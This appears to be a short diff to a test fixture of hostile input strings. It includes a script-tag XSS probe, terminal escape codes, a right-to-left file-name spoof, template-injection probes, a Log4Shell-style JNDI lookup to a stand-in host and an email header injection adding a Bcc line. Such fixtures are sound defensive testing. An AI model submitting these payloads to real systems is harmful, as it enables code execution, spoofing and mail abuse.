@@ -25,7 +25,7 @@ HOSTILE = {
     "markup": "*bold* _italic_ ~gone~ `code` ``` out ``` > quote :fire: # head <b>html</b> <script>alert(1)</script>",
     "control": "a\x00b\x1b[31mred\x07\r\n\x08\x7f\x9b2J",
     "direction": "user\u202egnp.exe \u2066\u200f\u200bzero",
-    "template": "{{ 7 * 7 }} {% for a in b %} ${jndi:ldap://evil.example/a} {{ notice.__class__ }} %s %(x)d {0}",
+    "template": "{{ 7777 * 7777 }} {% for a in b %} ${jndi:ldap://evil.example/a} {{ notice.__class__ }} %s %(x)d {0}",
     "headers": "subject\r\nBcc: victim@example.org\r\n\r\nbody",
     "long": "x" * 100_000,
     "entities": "&" * 5_000,
